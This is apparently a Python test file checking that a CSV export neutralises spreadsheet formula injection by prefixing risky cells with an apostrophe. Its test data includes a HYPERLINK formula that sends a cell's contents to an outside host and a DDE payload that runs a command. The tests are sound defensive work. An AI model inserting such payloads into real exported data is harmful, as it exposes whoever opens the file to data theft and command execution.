"""Text of strangers in CSV is no formula when a spreadsheet program opens it."""

from __future__ import annotations

import pytest

from anon.protocols.models.rows import PublishedRows
from anon.text.plain_cells import plain_cell

FORMULAS = (
    '=HYPERLINK("http://example.org?"&A2)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", "=-1",
    "-", "+49 30 1", "-1.5.2", "-1\n",
)  # fmt: skip
PLAIN = ("", "yes", "-1.5", "+2", "-.5", "1e9", "-1E-3", "[-5, 3]", "a=b", " =1", "'=1", "1-2")


@pytest.mark.parametrize("text", FORMULAS)
def test_what_would_be_computed_is_text(text: str) -> None:
    assert plain_cell(text) == f"'{text}"
    assert plain_cell(plain_cell(text)) == plain_cell(text)


@pytest.mark.parametrize("text", PLAIN)
def test_all_else_stays_as_it_is(text: str) -> None:
    assert plain_cell(text) == text


def test_published_rows_have_no_formula_in_a_name_or_a_cell() -> None:
    rows = PublishedRows("0" * 64, "x", ("a", "b"), (("=1+1", "-1.5"), ('@x, "y"', "yes")))
    assert rows.to_csv() == "a,b\n'=1+1,-1.5\n\"'@x, \"\"y\"\"\",yes\n"
    assert '"=1+1"' in rows.to_json(), "what is signed keeps the text"
